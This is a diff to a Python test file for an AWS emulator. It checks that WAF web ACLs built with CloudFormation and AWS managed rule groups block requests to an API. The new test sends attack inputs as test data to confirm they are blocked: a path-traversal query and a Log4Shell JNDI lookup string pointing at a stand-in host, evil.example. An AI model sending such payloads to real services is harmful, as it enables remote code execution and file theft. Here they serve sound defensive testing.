@@ -1,7 +1,8 @@
 """AWS WAF through CloudFormation: an IP set, a regex pattern set, a rule group and a web ACL referencing
 them (the templates' ``Arn`` spelling, SearchStringBase64), associated with a REST API stage by
-AWS::WAFv2::WebACLAssociation and filtering it; an update in place; a refused managed rule group fails the
-resource with WAF's error; everything goes with the stack."""
+AWS::WAFv2::WebACLAssociation and filtering it; an update in place; AWS managed rule groups (with
+ExcludedRules and a scope-down statement) filtering; a refused (paid) managed rule group fails the resource
+with WAF's error; everything goes with the stack."""
 
 from __future__ import annotations
 
@@ -182,7 +183,7 @@ def test_a_stack_of_waf_resources_filters_its_api(labcloud: LabcloudProcess, waf
     assert wafv2.list_ip_sets(Scope="REGIONAL")["IPSets"] == []
 
 
-def test_a_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: LabcloudProcess) -> None:
+def test_a_paid_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: LabcloudProcess) -> None:
     cfn = labcloud.boto3_client("cloudformation")
     acl = {
         "Type": "AWS::WAFv2::WebACL",
@@ -197,11 +198,11 @@ def test_a_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: Labclo
                     "Statement": {
                         "ManagedRuleGroupStatement": {
                             "VendorName": "AWS",
-                            "Name": "AWSManagedRulesCommonRuleSet",
+                            "Name": "AWSManagedRulesATPRuleSet",
                         }
                     },
                     "OverrideAction": {"None": {}},
-                    "VisibilityConfig": vis("common"),
+                    "VisibilityConfig": vis("bots"),
                 }
             ],
         },
@@ -214,5 +215,84 @@ def test_a_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: Labclo
     assert (
         reasons
         and "WAFInvalidParameterException" in str(reasons[0])
-        and "ManagedRuleGroupStatement" in str(reasons[0])
+        and "account takeover prevention" in str(reasons[0])
     )
+
+
+def test_aws_managed_rule_groups_in_a_stack_filter_its_api(labcloud: LabcloudProcess, wafv2: Any) -> None:
+    body = template("(?i)^curl")
+    body["Resources"]["Acl"]["Properties"]["Rules"] = [
+        {
+            "Name": "AWS-AWSManagedRulesCommonRuleSet",
+            "Priority": 0,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesCommonRuleSet",
+                    "Version": "Version_1.0",
+                    "ExcludedRules": [{"Name": "SizeRestrictions_QUERYSTRING"}],
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("crs"),
+        },
+        {
+            "Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet",
+            "Priority": 1,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesKnownBadInputsRuleSet",
+                    "ScopeDownStatement": {
+                        "ByteMatchStatement": {
+                            "SearchString": "GET",
+                            "FieldToMatch": {"Method": {}},
+                            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
+                            "PositionalConstraint": "EXACTLY",
+                        }
+                    },
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("kbi"),
+        },
+        {
+            "Name": "AWS-AWSManagedRulesBotControlRuleSet",
+            "Priority": 2,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesBotControlRuleSet",
+                    "ManagedRuleGroupConfigs": [
+                        {"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}
+                    ],
+                    "RuleActionOverrides": [
+                        {"Name": "CategoryHttpLibrary", "ActionToUse": {"Count": {}}},
+                        {"Name": "SignalNonBrowserUserAgent", "ActionToUse": {"Count": {}}},
+                    ],
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("bots"),
+        },
+    ]
+    cfn = labcloud.boto3_client("cloudformation")
+    cfn.create_stack(StackName="managed-ok", TemplateBody=json.dumps(body))
+    stack = wait_stack(cfn, "managed-ok")
+    assert stack["StackStatus"] == "CREATE_COMPLETE", events(cfn, "managed-ok")
+    out = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
+    assert out["Capacity"] == "952"  # 700 + 200 + the scope-down byte match's 2 + Bot Control's 50
+    api = out["Api"]
+    assert call(labcloud, api)[0] == 200  # urllib's User-Agent: an HTTP library, counted by the overrides
+    assert call(labcloud, api, User_Agent="Scrapy/2.11")[0] == 403  # CategoryScrapingFramework
+    assert call(labcloud, api, "/items?q=" + "a" * 2100)[0] == 200  # excluded: counted only
+    assert call(labcloud, api, "/items?f=..%2F..%2Fkeys")[0] == 403  # GenericLFI_QUERYARGUMENTS
+    assert call(labcloud, api, X_Api="${jndi:ldap://evil.example/a}")[0] == 403  # Log4JRCE_HEADER
+    name, acl_id, scope = out["AclRef"].split("|")
+    got = wafv2.get_web_acl(Name=name, Scope=scope, Id=acl_id)["WebACL"]["Rules"][1]["Statement"]
+    assert (
+        got["ManagedRuleGroupStatement"]["ScopeDownStatement"]["ByteMatchStatement"]["SearchString"] == b"GET"
+    )
+    cfn.delete_stack(StackName="managed-ok")
+    assert wait_stack(cfn, stack["StackId"])["StackStatus"] == "DELETE_COMPLETE"
+    assert wafv2.list_web_acls(Scope="REGIONAL")["WebACLs"] == []
